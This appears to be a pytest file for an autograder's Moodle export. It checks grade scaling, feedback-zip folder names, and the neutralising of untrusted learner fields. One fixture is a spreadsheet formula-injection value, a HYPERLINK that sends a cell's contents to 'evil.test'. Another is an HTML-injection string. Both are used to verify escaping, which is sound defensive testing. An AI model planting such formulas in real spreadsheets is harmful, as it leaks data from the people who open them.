"""Moodle and back: the grading worksheet filled (Grade, Feedback comments), every
other byte kept, and the feedback files zip in the folders Moodle's upload reads."""

import codecs
import csv
import io
import zipfile

import pytest

from autograder.errors import UnusableInput
from autograder.grading.lms import prepare_lms
from autograder.grading.outputs import write_outputs

from .lms_class import batch_of, result, zipped

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Open")'
HEADER = ('Identifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",'
          '"Last modified (submission)","Last modified (grade)","Feedback comments"\n')
# As Moodle's download writes it (PHP fputcsv: fields with spaces, commas or quotes quoted, \n endings).
ROWS = {
    "3301": '"Participant 3301","Zoë O\'Brien",zoe@example.edu,"Submitted for grading",,100.00,Yes,'
            '"Monday, 2 March 2026, 10:15 AM",-,\n',
    "3302": '"Participant 3302","Smith, John ""Bud""",bud@example.edu,"Submitted for grading",,100.00,Yes,'
            '"Monday, 2 March 2026, 11:02 AM",-,\n',
    "3303": '"Participant 3303","José Núñez",jose@example.edu,"No submission",,100.00,Yes,-,-,\n',
    "3304": f'"Participant 3304","{HOSTILE.replace(chr(34), chr(34) * 2)}",+evil@example.edu,'
            '"Submitted for grading",,100.00,Yes,"Monday, 2 March 2026, 9:00 AM",-,\n',
    "3305": '"Participant 3305","Lee Locked",lee@example.edu,"Submitted for grading",55.00,100.00,No,'
            '"Monday, 2 March 2026, 9:30 AM","Tuesday, 3 March 2026, 8:00 AM","Seen in class"\n',
    "3306": '"Participant 3306","Anne_Marie Dupré",am@example.edu,"Submitted for grading",,100.00,Yes,'
            '"Monday, 2 March 2026, 9:45 AM",-,\n',
}
ZIP_NAMES = [
    "Zoë O'Brien_3301_assignsubmission_file_/step07.ipynb",
    "Smith, John \"Bud\"_3302_assignsubmission_file_/step07.ipynb",
    "Smith, John \"Bud\"_3302_assignsubmission_file_/step07 (1).ipynb",  # two files: the later is graded
    "HYPERLINK_3304_assignsubmission_file_/step07.ipynb",
    "Lee Locked_3305_assignsubmission_file_/step07.ipynb",
    "Anne Marie Dupré_3306_assignsubmission_file_/step07.ipynb",
    "Someone Else_3399_assignsubmission_file_/step07.ipynb",  # not in the worksheet
]
RESULTS = {
    "3301": result("3301"),  # 25 + bonus 4: 116 on Moodle's 100, which refuses more than the maximum
    "3302": result("3302", failing={"identified-by-email": "km_ai was <b>42</b> & not the e-mail",
                                    "canonical-email": "a", "shared-computer": "b"}),  # 24, no bonus
    "3304": result("3304", exercise=0.0, failing={"canonical-email": "x", "shared-computer": "y"}),  # 20
    "3305": result("3305"),
    "3306": result("3306", graded=False, reason="not a readable notebook (corrupt JSON)"),
    "3399": result("3399"),
}


def worksheet(tmp_path, *, bom=True):
    path = tmp_path / "moodle-worksheet-download.csv"
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + (HEADER + "".join(ROWS.values())).encode("utf-8"))
    return path


@pytest.fixture(params=[True, False], ids=["with-BOM", "without-BOM"])
def filled(request, tmp_path):
    archive = zipped(tmp_path / "moodle-submissions.zip", ZIP_NAMES)
    lms = prepare_lms(worksheet(tmp_path, bom=request.param))
    outputs = write_outputs(batch_of(archive, tmp_path, RESULTS), tmp_path / "out", workers=1, lms=lms)
    return request.param, tmp_path / "out", outputs


def rows_by_participant(path):
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    return rows[0], {row[0].split()[-1]: dict(zip(rows[0], row)) for row in rows[1:]}


def test_grades_are_scaled_to_the_maximum_and_comments_say_what_to_fix(filled):
    _, out, outputs = filled
    header, rows = rows_by_participant(out / "moodle-worksheet.csv")
    assert header == next(csv.reader(io.StringIO(HEADER)))
    assert rows["3301"]["Grade"] == "100.00", "capped at Moodle's maximum"
    assert rows["3302"]["Grade"] == "96.00"
    assert rows["3304"]["Grade"] == "80.00"
    comment = rows["3302"]["Feedback comments"]
    assert comment.startswith("Score 96.00/100.00 (24/25 points, bonus 0/4, added).")
    assert "That ID is the customer's e-mail, as the shop stored it: km_ai was &lt;b&gt;42&lt;/b&gt; &amp; not" in comment
    assert "<b>" not in comment, "Moodle shows comments as HTML: a learner's value is shown, never run"
    assert "test_person_id: 0/5 points" in rows["3304"]["Feedback comments"]
    notes = "\n".join(outputs.lms_notes)
    assert "3399: not in the Moodle roster" in notes
    assert "3305: the grade of Moodle participant 3305 is locked in Moodle" in notes
    assert "3306: not graded (not a readable notebook (corrupt JSON))" in notes
    assert "3301: with the bonus above Moodle's Maximum grade" in notes


def test_rows_we_do_not_change_are_kept_byte_for_byte_encoding_included(filled):
    bom, out, _ = filled
    data = (out / "moodle-worksheet.csv").read_bytes()
    assert data.startswith(codecs.BOM_UTF8) == bom
    text = data.decode("utf-8-sig")
    assert text.startswith(HEADER)
    for untouched in ("3303", "3305", "3306"):  # no submission, a locked grade, not graded
        assert ROWS[untouched] in text
    assert "3399" not in text
    assert text.count("\n") == 1 + len(ROWS) and "\r" not in text


def test_learner_cells_are_neutralised_but_identifiers_and_numbers_are_not(filled):
    _, out, _ = filled
    _, rows = rows_by_participant(out / "moodle-worksheet.csv")
    assert rows["3304"]["Full name"] == "'" + HOSTILE
    assert rows["3304"]["Email address"] == "'+evil@example.edu"
    assert rows["3304"]["Identifier"] == "Participant 3304" and rows["3304"]["Grade"] == "80.00"
    assert rows["3301"]["Full name"] == "Zoë O'Brien" and rows["3301"]["Last modified (grade)"] == "-"


def test_the_feedback_zip_has_the_folders_moodle_reads_the_participant_id_from(filled):
    _, out, _ = filled
    with zipfile.ZipFile(out / "moodle-feedback.zip") as archive:
        names = archive.namelist()
        assert "Zoë O'Brien_3301_assignsubmission_file_/feedback.html" in names
        assert "Anne Marie Dupré_3306_assignsubmission_file_/feedback.html" in names  # "_" would split the id
        page = archive.read("Zoë O'Brien_3301_assignsubmission_file_/feedback.html").decode()
        assert "your feedback" in page
    # Moodle's importer: explode('_', folder, 5); the second part is the participant id, the third and
    # fourth the plugin (assignsubmission, file).
    found = {}
    for name in names:
        folder, file_name = name.split("/")
        parts = folder.split("_", 4)
        assert len(parts) >= 4 and parts[1].isdigit() and parts[2:4] == ["assignsubmission", "file"], name
        found[parts[1]] = file_name
    assert set(found) == {"3301", "3302", "3304", "3305", "3306"}, "everyone graded and in the worksheet"


def test_missing_learners_get_zero_only_when_asked_and_never_over_a_moodle_grade(tmp_path):
    archive = zipped(tmp_path / "moodle-submissions.zip", ZIP_NAMES)
    text = HEADER + "".join(ROWS.values()) + ROWS["3303"].replace("3303", "3307").replace(",,100.00", ",40.00,100.00")
    (tmp_path / "sheet.csv").write_text(text, encoding="utf-8")
    lms = prepare_lms(tmp_path / "sheet.csv", missing_as_zero=True, bonus="ignore")
    write_outputs(batch_of(archive, tmp_path, RESULTS), tmp_path / "out", workers=1, lms=lms)
    _, rows = rows_by_participant(tmp_path / "out" / "moodle-worksheet.csv")
    assert rows["3303"]["Grade"] == "0.00" and rows["3303"]["Feedback comments"] == ""
    assert rows["3307"]["Grade"] == "40.00"
    assert rows["3301"]["Grade"] == "100.00" and rows["3302"]["Grade"] == "96.00", "bonus ignored: 24/25"
    assert "bonus 4/4, not counted in the grade" in rows["3301"]["Feedback comments"]


def test_a_worksheet_without_the_columns_moodle_needs_is_refused(tmp_path):
    (tmp_path / "scale.csv").write_text(HEADER.replace('"Maximum grade"', "Scale"), encoding="utf-8")
    with pytest.raises(UnusableInput, match="graded on a scale"):
        prepare_lms(tmp_path / "scale.csv")
    (tmp_path / "latin1.csv").write_bytes(HEADER.encode() + ROWS["3303"].encode("latin-1"))
    with pytest.raises(UnusableInput, match="not UTF-8"):
        prepare_lms(tmp_path / "latin1.csv")
